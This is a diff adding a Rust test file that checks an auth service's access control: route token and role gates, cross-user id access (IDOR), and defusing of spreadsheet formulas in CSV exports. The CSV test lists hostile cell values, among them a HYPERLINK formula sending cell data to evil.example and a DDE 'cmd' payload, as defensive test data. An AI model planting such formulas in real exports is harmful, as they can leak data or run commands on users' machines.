@@ -1,0 +1,200 @@
+//! Reaching what is not yours: routes without their token or role, other users' resources
+//! through `{id}` routes, and spreadsheet formulas smuggled into CSV exports. Each gate walks the
+//! route table.
+
+use crate::peers::python;
+use crate::support::{TestApp, s, spawn_app};
+use latch_core::domain::{AuditType, Email, Role};
+use latch_core::http::csv::{Csv, could_start_a_formula};
+use latch_core::http::routes::{Access, Body, ROUTES, Route};
+use reqwest::{Method, StatusCode};
+
+/// The route's path with every `{param}` filled by a well-formed id nobody owns.
+fn concrete(route: &Route) -> String {
+    route
+        .path
+        .split('/')
+        .map(|seg| {
+            if seg.starts_with('{') {
+                "01JZ0000000000000000000000"
+            } else {
+                seg
+            }
+        })
+        .collect::<Vec<_>>()
+        .join("/")
+}
+
+fn some_body(route: &Route) -> Option<Vec<u8>> {
+    match route.doc.body {
+        Body::None => None,
+        Body::Required(_) | Body::Optional(_) => Some(b"{}".to_vec()),
+    }
+}
+
+/// Grants `roles` to the account of `email`, straight in the store (no admin route yet needed).
+async fn grant(app: &TestApp, email: &str, roles: &[Role]) {
+    let users = &app.deps.users;
+    let mut user = users
+        .user_by_email(&Email::parse(email).unwrap())
+        .await
+        .unwrap()
+        .unwrap();
+    let expected = user.version;
+    user.roles = [Role::User]
+        .into_iter()
+        .chain(roles.iter().copied())
+        .collect();
+    user.version += 1;
+    assert!(users.save_user(&user, expected, None).await.unwrap());
+}
+
+#[tokio::test]
+async fn every_route_refuses_callers_without_its_access() {
+    let app = spawn_app().await;
+    let (email, tokens) = app.signed_in().await;
+    let live = s(&tokens, "accessToken");
+    let (_, ended) = app.signed_in().await;
+    let dead = s(&ended, "accessToken");
+    let logout = app
+        .call(Method::POST, "/v1/auth/logout", Some(&dead), None)
+        .await;
+    assert_eq!(logout.status, StatusCode::NO_CONTENT, "{}", logout.body);
+    let mut guarded = 0;
+    for route in ROUTES.iter().filter(|r| r.access.needs_token()) {
+        guarded += 1;
+        let (path, body) = (concrete(route), some_body(route));
+        for token in [None, Some("not.a.jwt"), Some(dead.as_str())] {
+            let res = app
+                .call(route.method.clone(), &path, token, body.clone())
+                .await;
+            assert_eq!(
+                res.status, 401,
+                "{} with {token:?}: {}",
+                route.name, res.body
+            );
+            res.assert_problem(401, "invalid_token");
+            assert!(
+                res.header("www-authenticate").starts_with("Bearer"),
+                "{}",
+                route.name
+            );
+        }
+        let Access::Roles(roles) = route.access else {
+            continue;
+        };
+        if roles.contains(&Role::User) {
+            continue;
+        }
+        let before = app.audited(AuditType::AccessDenied).await;
+        let res = app
+            .call(route.method.clone(), &path, Some(&live), body.clone())
+            .await;
+        res.assert_problem(403, "forbidden");
+        assert_eq!(
+            app.audited(AuditType::AccessDenied).await,
+            before + 1,
+            "{}",
+            route.name
+        );
+        for role in roles.iter() {
+            grant(&app, &email, &[*role]).await;
+            let res = app
+                .call(route.method.clone(), &path, Some(&live), body.clone())
+                .await;
+            assert!(
+                !matches!(res.status.as_u16(), 401 | 403),
+                "{} refuses a holder of {role:?}: {}",
+                route.name,
+                res.body
+            );
+            grant(&app, &email, &[]).await;
+        }
+    }
+    assert!(guarded >= 6, "the bearer routes are in the table");
+}
+
+#[tokio::test]
+async fn no_id_route_reaches_another_users_resource() {
+    let app = spawn_app().await;
+    let (_, mine) = app.signed_in().await;
+    let mine = s(&mine, "accessToken");
+    let (_, theirs) = app.signed_in().await;
+    let theirs = s(&theirs, "accessToken");
+    let mut checked = 0;
+    for route in ROUTES.iter().filter(|r| r.path.contains('{')) {
+        checked += 1;
+        match route.name {
+            "revoke-session" => {
+                let list = app.bearer(Method::GET, "/v1/auth/sessions", &theirs).await;
+                let id = list.body["items"][0]["id"].as_str().unwrap().to_owned();
+                let path = route.path.replace("{id}", &id);
+                let res = app.bearer(route.method.clone(), &path, &mine).await;
+                res.assert_problem(404, "not_found");
+                assert_eq!(
+                    app.me(&theirs).await.status,
+                    StatusCode::OK,
+                    "theirs lives on"
+                );
+            }
+            other => panic!(
+                "route {other} takes an id: teach this IDOR gate to make another user's \
+                 resource for it and to prove the caller cannot reach it"
+            ),
+        }
+    }
+    assert!(checked >= 1);
+}
+
+#[tokio::test]
+async fn csv_exports_neutralize_formulas() {
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r\n=1+1",
+        " =1",
+        "\u{FF1D}1+1",
+        "plain, with \"quotes\"\r\nand lines",
+    ];
+    let mut csv = Csv::with_header(&["type", "userAgent"]);
+    for cell in hostile {
+        csv.row(&["login.failed", cell]);
+    }
+    let (ok, rows, stderr) = python("parse_csv.py", csv.finish().as_bytes());
+    assert!(ok, "{stderr}");
+    let rows = rows.as_array().unwrap();
+    assert_eq!(
+        rows.len(),
+        hostile.len() + 1,
+        "one header row, one row per event"
+    );
+    for (row, original) in rows[1..].iter().zip(hostile) {
+        let cell = row[1].as_str().unwrap();
+        assert!(
+            !could_start_a_formula(cell),
+            "{cell:?} would open as a formula"
+        );
+        let expected = if could_start_a_formula(original) {
+            format!("'{original}")
+        } else {
+            original.to_owned()
+        };
+        assert_eq!(cell, expected, "the cell is kept, only made inert");
+    }
+    // Every export route is held to this gate: none may ship until it seeds hostile cells and
+    // parses its own answer here.
+    let exports: Vec<&str> = ROUTES
+        .iter()
+        .filter(|r| r.doc.content_type.starts_with("text/csv"))
+        .map(|r| r.name)
+        .collect();
+    assert!(
+        exports.is_empty(),
+        "{exports:?} export CSV: teach this gate to seed hostile cells (an audit event with a \
+         formula as User-Agent), to parse the answer with parse_csv.py and to hold every cell \
+         to could_start_a_formula"
+    );
+}
